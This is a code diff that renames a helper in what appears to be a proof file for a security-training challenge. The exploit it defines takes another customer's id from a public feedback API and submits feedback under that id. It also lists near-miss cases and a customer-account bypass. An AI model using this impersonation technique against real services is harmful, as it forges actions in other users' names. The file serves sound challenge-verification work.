@@ -7,7 +7,7 @@ interface Row {
 }
 
 /** Returns the account id of another customer from the public list of feedback. */
-async function somebodyElse(attacker: Attacker): Promise<number> {
+async function otherCustomerId(attacker: Attacker): Promise<number> {
   const { data } = (await attacker.get('/api/Feedbacks')).json()
   return (data as Row[]).flatMap(({ UserId }) => UserId ?? []).at(-1)!
 }
@@ -19,7 +19,7 @@ async function ownId(attacker: Attacker): Promise<number> {
 
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
-    await leaveFeedback(attacker, { UserId: await somebodyElse(attacker) })
+    await leaveFeedback(attacker, { UserId: await otherCustomerId(attacker) })
   },
   nearMisses: {
     'feedback with the own number': async (attacker) => {
@@ -31,7 +31,7 @@ export const proof = prove(challenge, {
       await leaveFeedback(attacker, { UserId: null })
     },
     'a captcha that is not solved': async (attacker) => {
-      await leaveFeedback(attacker, { UserId: await somebodyElse(attacker), captcha: 'none' })
+      await leaveFeedback(attacker, { UserId: await otherCustomerId(attacker), captcha: 'none' })
     },
     'the number of an account that there is not': (attacker) => leaveFeedback(attacker, { UserId: 4711 }),
     'the signature of somebody else in the comment alone': (attacker) =>
@@ -40,7 +40,7 @@ export const proof = prove(challenge, {
   bypasses: {
     'believe-customers-only': async (attacker) => {
       await attacker.becomeCustomer()
-      await leaveFeedback(attacker, { UserId: await somebodyElse(attacker) })
+      await leaveFeedback(attacker, { UserId: await otherCustomerId(attacker) })
     },
   },
 })
